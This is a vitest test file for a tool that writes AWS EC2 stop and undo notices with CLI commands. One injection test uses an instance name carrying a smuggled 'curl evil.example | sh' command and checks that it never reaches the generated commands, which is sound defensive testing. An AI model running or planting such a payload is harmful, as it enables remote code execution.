import { describe, expect, test } from 'vitest';
import { renderPass } from '../../src/lib/tell/render/pass-message.ts';
import { allNotices, NOTICES, notice, reasonOf, SEOUL, warnings } from './notices.ts';
import { TEN_PM } from './reasons.ts';
import { subject, volumeId } from './subjects.ts';

const linesOf = (text: string, start: string): readonly string[] =>
  text.split('\n').filter((line) => line.trimStart().startsWith(start));

describe('a message of a pass', () => {
  test('says the most urgent kind first, whatever order it was found in', () => {
    const { subject: line, text, attributes } = renderPass(allNotices().toReversed(), SEOUL);
    expect(line).toMatch(/^Tierkeeper: (oruum-backend|queue|batch|dev-box|blog|api|shop) stops at/);
    expect(attributes).toEqual({
      kind: 'about-to-stop',
      urgency: 'now',
      account: '123456789012',
      region: 'ap-northeast-2',
    });
    const headings = ['About to stop', 'Did not work', 'Volumes left behind', 'Stopped'];
    const places = headings.map((heading) => text.search(new RegExp(`^${heading}: \\d+$`, 'm')));
    expect(places).not.toContain(-1);
    expect(places).toEqual(places.toSorted((a, b) => a - b));
    expect(places).not.toContain(-1);
  });

  test('gives each of a few instances its own command', () => {
    const { text } = renderPass(warnings(3), SEOUL);
    expect(linesOf(text, 'aws ec2 create-tags')).toHaveLength(3);
  });

  test('gives many instances one command', () => {
    const { text } = renderPass(warnings(30), SEOUL);
    const commands = linesOf(text, 'aws ec2 create-tags');
    expect(commands).toHaveLength(1);
    expect(commands[0]?.match(/i-[0-9a-f]{17}/g)).toHaveLength(30);
  });

  test('lists twenty of a kind and names the others', () => {
    const { text } = renderPass(warnings(23), SEOUL);
    expect(linesOf(text, '- dev-')).toHaveLength(20);
    expect(text).toContain('Also: dev-21, dev-22, dev-23.');
  });

  test('counts those that even their names would be too many of', () => {
    expect(renderPass(warnings(1000), SEOUL).text).toContain('800 more.');
    const korean = renderPass(warnings(1000), { ...SEOUL, language: 'ko' });
    expect(korean.text).toContain('외 800건');
  });

  test('says when it only observes', () => {
    const { text } = renderPass(warnings(1), { ...SEOUL, mode: 'observe' });
    expect(text).toContain('It only observes');
  });

  test.each(['en', 'ko'] as const)(
    'says first which of several places it is of (%s)',
    (language) => {
      const view = { ...SEOUL, language };
      const alone = renderPass(warnings(2), view, ['slack']);
      const one = renderPass(warnings(2), { ...view, place: 'shop us-east-1' }, ['slack']);
      expect(one.subject).toBe(
        alone.subject.replace('Tierkeeper: ', 'Tierkeeper: [shop us-east-1] '),
      );
      expect(JSON.stringify(one.slack?.blocks[0])).toContain('[shop us-east-1] ');
      expect(one.slack?.text).toMatch(/^\[shop us-east-1\] /);
    },
  );

  test('has room for its news beside the longest name of a place', () => {
    const { subject } = renderPass(warnings(1), { ...SEOUL, place: 'long '.repeat(30) });
    expect(subject).toMatch(/^Tierkeeper: \[long .*…\] dev-1 stops at/);
  });

  test('of nothing is a mistake of the caller', () => {
    expect(() => renderPass([], SEOUL)).toThrow(RangeError);
  });
});

describe('how to undo', () => {
  const commandsOf = (...notices: Parameters<typeof renderPass>[0]): string =>
    linesOf(renderPass(notices, SEOUL).text, 'aws ').join('\n');

  test('a warned stop is held until nine in the morning of the day after', () => {
    const [warning] = warnings(1);
    expect(warning && commandsOf(warning)).toContain(
      'Key=tierkeeper:hold-until,Value=2026-11-24T09:00 --region ap-northeast-2',
    );
  });

  test('a stop is undone by a start, and an idle one can be ruled out', () => {
    const effects = { savesMicroUsdPerHour: null, losesPublicIp: null, idleElasticIp: null };
    const idle = { subject: subject('gpu-box'), reason: reasonOf('idle'), effects };
    const commands = commandsOf(notice('stopped', idle));
    expect(commands).toContain('aws ec2 start-instances --instance-ids i-00000000000000001');
    expect(commands).toContain('Key=tierkeeper:idle,Value=never');
  });

  test('a volume can be copied, deleted or kept', () => {
    const [facts] = NOTICES['volumes-left'];
    const commands = facts ? commandsOf(notice('volumes-left', facts)) : '';
    expect(commands).toContain(`aws ec2 create-snapshot --volume-id ${volumeId(1)}`);
    expect(commands).toContain(`aws ec2 delete-volume --volume-id ${volumeId(1)}`);
    expect(commands).toContain(`--resources ${volumeId(1)} --tags Key=tierkeeper:keep,Value=true`);
  });

  test('names no tag value: a Name cannot write into a command', () => {
    const evil = subject('x; curl evil.example | sh');
    const commands = commandsOf(
      ...allNotices().map((one) =>
        'subject' in one.facts
          ? ({ ...one, at: TEN_PM, facts: { ...one.facts, subject: evil } } as typeof one)
          : one,
      ),
    );
    expect(commands).not.toContain('evil');
    expect(commands).toContain(evil.instanceId);
  });
});
